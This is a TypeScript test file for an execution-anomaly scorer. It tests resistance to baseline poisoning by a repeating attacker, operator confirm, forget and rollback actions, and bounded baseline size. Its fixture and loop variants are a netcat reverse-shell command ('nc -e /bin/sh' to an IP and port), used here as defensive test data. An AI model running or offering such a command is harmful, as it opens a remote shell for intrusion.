import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import type { ExecutionScorer } from '../score/execution-scorer.ts';
import { shapeOf } from '../shape/shape-of.ts';
import { establishedScorer } from '../testing/established-scorer.ts';
import { DAY_MS, DAY_ONE_MS, makeEvent } from '../testing/make-event.ts';
import { Baseline } from './baseline.ts';
import type { Lesson } from './observe-shape.ts';
import { confirmShape, expireBefore, forgetShape, rollBack } from './revisions.ts';

const HAND = { by: 'ops', timeMs: DAY_ONE_MS };
const ATTACK = makeEvent('nc -e /bin/sh 10.0.0.1 4444');

function baselineOf(scorer: ExecutionScorer): Baseline {
  const baseline = scorer.workload('web')?.baseline;
  assert.ok(baseline !== undefined);
  return baseline;
}

describe('an attacker who teaches', () => {
  test('is not believed for repeating an attack ten thousand times in a day', () => {
    const scorer = establishedScorer();
    const before = scorer.score(ATTACK).score;
    for (let time = 0; time < 10_000; time += 1)
      scorer.observe({ ...ATTACK, t: DAY_ONE_MS + time });
    assert.equal(scorer.score(ATTACK).score, before);
  });

  test('gains nothing by many variants that share what matters', () => {
    const scorer = establishedScorer({ alertScore: () => 1 });
    const before = scorer.score(ATTACK).score;
    for (let time = 0; time < 500; time += 1)
      scorer.observe(makeEvent(`nc -e /bin/sh 10.0.0.${time % 250} ${time} x${time}`));
    const after = scorer.score(ATTACK).score;
    assert.ok(after > before * 0.8, `${before} to ${after}`);
  });

  test('is not helped by the alerts that it makes: they count a few times a day', () => {
    const scorer = establishedScorer();
    for (let time = 0; time < 5_000; time += 1) scorer.observe({ ...ATTACK, t: DAY_ONE_MS + time });
    assert.ok(scorer.score(ATTACK).p < 0.05);
  });
});

describe('a person', () => {
  test('confirms what is normal, and forgets it again', () => {
    const scorer = establishedScorer();
    scorer.observe(ATTACK);
    const { key } = shapeOf(ATTACK);
    assert.ok(confirmShape(baselineOf(scorer), key, HAND));
    assert.ok(scorer.score(ATTACK).score < 0.05);
    assert.ok(forgetShape(baselineOf(scorer), key, HAND));
    assert.ok(scorer.score(ATTACK).score > 0.9);
    const changes = baselineOf(scorer)
      .toState()
      .changes.map(({ what, by }) => [what, by]);
    assert.deepEqual(changes, [
      ['confirmed', 'ops'],
      ['forgotten', 'ops'],
    ]);
  });

  test('rolls back to a day: everything learned since is gone', () => {
    const scorer = establishedScorer();
    const before = baselineOf(scorer).toState().shapes;
    for (let day = 0; day < 5; day += 1)
      scorer.observe(makeEvent('make -C /srv/app', { t: DAY_ONE_MS + day * DAY_MS }));
    assert.equal(rollBack(baselineOf(scorer), DAY_ONE_MS, HAND), 1);
    assert.deepEqual(baselineOf(scorer).toState().shapes, before);
  });
});

describe('a baseline', () => {
  test('is bounded, counts what it gave up, and gives up what it believes least', () => {
    const baseline = new Baseline(undefined, { shapesMax: 64 });
    const see = (command: string, lesson: Lesson, timeMs: number): void => {
      baseline.observe({ shape: shapeOf(makeEvent(command)), host: 'web-1', timeMs, lesson });
    };
    for (let time = 0; time < 20; time += 1) see('sleep 1', 'learned', DAY_ONE_MS);
    for (let at = 0; at < 1_000; at += 1)
      see(`tool-${'a'.repeat(at % 90)} ${'b'.repeat(at % 89)}`, 'held', DAY_ONE_MS + at);
    assert.ok(baseline.size <= 64);
    assert.ok(baseline.evicted > 500);
    assert.ok(baseline.find(shapeOf(makeEvent('sleep 1')).key) !== undefined);
  });

  test('forgets days that are over, but not what a person confirmed', () => {
    const scorer = establishedScorer();
    const { key } = shapeOf(makeEvent('sleep 30'));
    confirmShape(baselineOf(scorer), key, HAND);
    expireBefore(baselineOf(scorer), DAY_ONE_MS + DAY_MS, DAY_ONE_MS + DAY_MS);
    assert.deepEqual(
      [...baselineOf(scorer).shapes].map((record) => record.key),
      [key],
    );
  });
});
